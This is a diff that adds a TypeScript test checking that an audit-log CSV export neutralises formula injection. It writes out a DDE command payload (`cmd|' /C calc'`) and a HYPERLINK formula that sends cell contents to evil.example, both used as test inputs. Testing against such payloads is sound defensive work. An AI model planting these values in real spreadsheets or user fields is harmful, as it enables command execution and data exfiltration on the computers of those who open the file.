@@ -6,8 +6,12 @@ import type { Database } from '../db/client';
 import { auditLog } from '../db/schema';
 import { testConfig } from '../env';
 import { createServer } from '../server';
+import { createOrPromoteAdmin } from '../services/auth';
+import { callerFor, newVisitor } from '../test/caller';
+import { csvRows, opensAsFormula } from '../test/csv';
 import { createTestDatabase } from '../test/db';
-import { signedInAdmin, signedInCustomer, signedInStaff } from '../test/factories';
+import { STRONG_PASSWORD, signedInAdmin, signedInCustomer, signedInStaff } from '../test/factories';
+import { AUDIT_CSV_HEADERS } from './audit-export';
 
 let database: Database;
 let server: Awaited<ReturnType<typeof createServer>>;
@@ -67,5 +71,32 @@ describe('audit CSV', () => {
     expect(mineLines[0]).toContain('"Inicio de sesión"');
 
     expect((await download(admin.visitor.token, '?from=2026-05-02&to=2026-05-01')).statusCode).toBe(400);
+  });
+});
+
+describe('audit CSV and formula injection', () => {
+  it("writes a formula-like name and browser as text, whoever they came from", async () => {
+    // A customer signs up with a payload for a name and is later made staff: their sign-ins
+    // carry that name, and a browser string that is a payload too.
+    const name = `-1+cmd|' /C calc'!A0`;
+    const userAgent = `=HYPERLINK("http://evil.example/?d="&A1,"Ver")`;
+    const admin = await signedInAdmin(database.db);
+    const mallory = await signedInCustomer(database.db, { nombre: name });
+    await createOrPromoteAdmin(database.db, { email: mallory.email, password: STRONG_PASSWORD });
+    await callerFor(database.db, newVisitor({ userAgent })).auth.signIn({ email: mallory.email, password: STRONG_PASSWORD });
+
+    const answer = await download(admin.visitor.token, `?actorId=${mallory.user.id}`);
+    expect(answer.statusCode).toBe(200);
+    const [header, ...rows] = csvRows(answer.body);
+    expect(header).toEqual(AUDIT_CSV_HEADERS);
+    expect(rows).toHaveLength(1);
+    const cell = (column: (typeof AUDIT_CSV_HEADERS)[number]) => rows[0][AUDIT_CSV_HEADERS.indexOf(column)];
+    expect(cell('Persona')).toBe(`'${name} <${mallory.email}>`);
+    expect(cell('Navegador')).toBe(`'${userAgent}`);
+
+    // Every entry of the log: no cell opens as a formula.
+    const all = csvRows((await download(admin.visitor.token)).body).slice(1);
+    expect(all.length).toBeGreaterThan(1);
+    expect(all.flat().filter(opensAsFormula)).toEqual([]);
   });
 });
